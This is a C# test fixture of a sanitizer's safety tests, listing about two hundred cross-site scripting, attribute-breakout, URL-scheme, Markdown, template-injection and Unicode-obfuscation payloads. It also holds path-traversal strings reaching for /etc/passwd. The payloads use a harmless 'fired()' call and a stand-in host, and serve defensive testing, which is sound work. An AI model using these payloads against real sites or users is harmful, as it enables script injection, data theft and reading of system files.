namespace Lintel.Tests.Safety;

/// <summary>
/// What strangers write where words are expected. Each tries to call <c>fired()</c>, to load something from
/// <c>elsewhere.example</c>, or to break out of where it stands.
/// </summary>
internal static class AttackStrings
{
    public static readonly string[] All =
    [
        // Elements that run something by themselves.
        "<script>fired()</script>", "<SCRIPT>fired()</SCRIPT>", "<script src=//elsewhere.example/a.js></script>", "<script>fired()//", "<script\n>fired()</script\n>",
        "<script/x>fired()</script>", "<script type=module>fired()</script>", "<script async src=\"data:text/javascript,fired()\"></script>", "<scr<script>ipt>fired()</scr</script>ipt>",
        "</script><script>fired()</script>", "</title><script>fired()</script>", "</textarea><script>fired()</script>", "</style><script>fired()</script>", "</noscript><script>fired()</script>",
        "</template><script>fired()</script>", "</pre></code><script>fired()</script>", "--><script>fired()</script>", "]]><script>fired()</script>", "<!--><script>fired()</script>-->",
        "<img src=x onerror=fired()>", "<IMG SRC=x OnErRoR=fired()>", "<img src=x onerror='fired()'//", "<img/src=x/onerror=fired()>", "<img src=x\tonerror=fired()>", "<img src=`x`onerror=fired()>",
        "<img src=https://elsewhere.example/i.png>", "<img srcset=\"https://elsewhere.example/i.png 2x\">", "<image href=x onerror=fired()>", "<img src onerror=fired()>", "<img title=\"a>b\" src=x onerror=fired()>",
        "<svg onload=fired()>", "<svg/onload=fired()>", "<svg><script>fired()</script></svg>", "<svg><script href=data:text/javascript,fired() /></svg>", "<svg><animate onbegin=fired() attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:fired()><a><text>x", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='fired()'/>#x\"/></svg>", "<svg><foreignObject><script>fired()</script>",
        "<svg><a xlink:href=javascript:fired()><text y=20>x</text></a></svg>", "<svg><style>@import 'https://elsewhere.example/a.css';</style></svg>", "<svg><title><script>fired()</script></title></svg>",
        "<math><mi xlink:href=javascript:fired()>x</mi></math>", "<math><mtext><table><mglyph><style><img src=x onerror=fired()>", "<math><annotation-xml encoding=text/html><script>fired()</script>",
        "<body onload=fired()>", "<html onclick=fired()>", "<iframe src=javascript:fired()>", "<iframe srcdoc=\"<script>parent.fired()</script>\">", "<iframe src=//elsewhere.example>", "<frameset onload=fired()>",
        "<object data=javascript:fired()>", "<object data=//elsewhere.example/a>", "<embed src=javascript:fired()>", "<embed src=//elsewhere.example/a>", "<applet code=fired()>", "<portal src=//elsewhere.example>",
        "<audio src=x onerror=fired()>", "<video><source onerror=fired()></video>", "<video poster=//elsewhere.example/i.png>", "<audio src=//elsewhere.example/a.mp3 autoplay>", "<track src=x onerror=fired()>",
        "<input autofocus onfocus=fired()>", "<select autofocus onfocus=fired()>", "<textarea autofocus onfocus=fired()>", "<button autofocus onfocus=fired()>", "<details open ontoggle=fired()>",
        "<marquee onstart=fired()>x</marquee>", "<keygen autofocus onfocus=fired()>", "<isindex action=javascript:fired() type=image>", "<bgsound src=javascript:fired()>", "<dialog open onclose=fired()>",
        "<div contenteditable autofocus onfocus=fired()>x", "<a autofocus tabindex=1 onfocus=fired()>x", "<p onmouseover=fired()>x</p>", "<x onclick=fired()>x</x>", "<xss id=x onfocus=fired() tabindex=1>",
        "<style>*{background:url(//elsewhere.example/i)}</style>", "<style>@import url(https://elsewhere.example/a.css)</style>", "<link rel=stylesheet href=//elsewhere.example/a.css>", "<link rel=prefetch href=//elsewhere.example>",
        "<link rel=import href=data:text/html,<script>fired()</script>>", "<meta http-equiv=refresh content=\"0;url=//elsewhere.example\">", "<meta http-equiv=refresh content=\"0;javascript:fired()\">",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<base href=//elsewhere.example/>", "<form action=javascript:fired()><button>x", "<form action=//elsewhere.example><input name=a>",
        "<button form=x formaction=javascript:fired()>x", "<input type=image src=x onerror=fired()>", "<table background=//elsewhere.example/i><tr><td>x", "<td style=\"background:url(//elsewhere.example/i)\">",
        "<div style=\"width:expression(fired())\">", "<div style=\"background-image:url(https://elsewhere.example/i)\">x", "<p style=animation-name:x onanimationstart=fired()>", "<noscript><p title=\"</noscript><img src=x onerror=fired()>\">",
        "<template><script>fired()</script></template>", "<template shadowrootmode=open><script>fired()</script></template>", "<xmp><p title=\"</xmp><img src=x onerror=fired()>\">", "<plaintext><script>fired()</script>",
        "<slot onslotchange=fired()>", "<custom-element is=script>fired()</custom-element>", "<p is=\"x-y\" onclick=fired()>", "<search onclick=fired()>", "<img src=x onerror=import('//elsewhere.example/a.js')>",
        // Out of an attribute.
        "\"><script>fired()</script>", "'><script>fired()</script>", "\" onmouseover=fired() x=\"", "' onfocus=fired() autofocus x='", "` onerror=fired() x=`", "\" autofocus onfocus=fired() \"", "x\" onload=\"fired()",
        "\"/><img src=x onerror=fired()>", "&quot;&gt;&lt;script&gt;fired()&lt;/script&gt;", "&#34;&#62;&#60;script&#62;fired()&#60;/script&#62;", "\u0000\"><script>fired()</script>", "\\\"><script>fired()</script>",
        "\" style=\"background:url(//elsewhere.example/i)", "\" href=\"javascript:fired()", "\" srcdoc=\"<script>parent.fired()</script>", "a\u2028\"><script>fired()</script>", "%22%3E%3Cscript%3Efired()%3C/script%3E",
        // Addresses.
        "javascript:fired()", "JaVaScRiPt:fired()", "java\tscript:fired()", "java\nscript:fired()", " javascript:fired()", "\u0001javascript:fired()", "javascript&colon;fired()", "javascript&#58;fired()", "javascript&#x3A;fired()",
        "&#106;avascript:fired()", "javascript://example.org/%0afired()", "javascript:/*--></title></style></script>*/fired()", "javascript\u200b:fired()", "java\u00adscript:fired()", "jav&#x09;ascript:fired()",
        "vbscript:fired()", "data:text/html,<script>parent.fired()</script>", "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fired()'/>",
        "data:text/javascript,fired()", "blob:https://elsewhere.example/x", "view-source:javascript:fired()", "feed:javascript:fired()", "//elsewhere.example/", "/\\elsewhere.example/", "\\\\elsewhere.example\\x", "https:/elsewhere.example",
        "https://example.org@elsewhere.example/", "file:///etc/passwd", "../../../../../etc/passwd", "mailto:x@example.org?body=<script>fired()</script>", "tel:1\"onclick=fired()", "#\"><img src=x onerror=fired()>", "?x=\"><script>fired()</script>",
        // Markdown and the blocks of lessons.
        "[x](javascript:fired())", "[x](<javascript:fired()>)", "![x](javascript:fired())", "[x]( javascript:fired() \"t\")", "[x](java&#115;cript:fired())", "<javascript:fired()>", "[x]: javascript:fired()", "[![x](x \"onerror=fired()\")](javascript:fired())",
        "![x](https://elsewhere.example/i.png)", "![x](x\"onerror=\"fired())", "[x](x\"onclick=\"fired())", "[x](x 'a\" onmouseover=\"fired()')", "```<script>fired()</script>", "```js\" onload=\"fired()", "~~~ x><script>fired()</script>",
        "::: tldr \"><script>fired()</script>", "::: <script>fired()</script>", "{onclick=fired()}", "x {#x onclick=fired()}", "$$<script>fired()</script>$$", "[^x]: <script>fired()</script>", "| <script>fired()</script> |", "\\<script>fired()</script>",
        "`<script>fired()</script>`", "**<script>fired()</script>**", "# <script>fired()</script>", "> <script>fired()</script>", "- [x] <script>fired()</script>", "@import url(//elsewhere.example/a.css);", "{{constructor.constructor('fired()')()}}",
        "${fired()}", "<%= fired() %>", "#{fired()}", "@(fired())", "fired()", "';fired();//", "\");fired();//", "*/fired()/*", "\n+fired()+\n",
        // Letters that are read otherwise by some.
        "＜script＞fired()＜/script＞", "\u003c\u0000script>fired()</script>", "<script\u2028>fired()</script>", "<ſcript>fired()</ſcript>", "<img src=x onerror\u00a0=fired()>", "+ADw-script+AD4-fired()+ADw-/script+AD4-", "\u202e<script>fired()</script>",
    ];
}
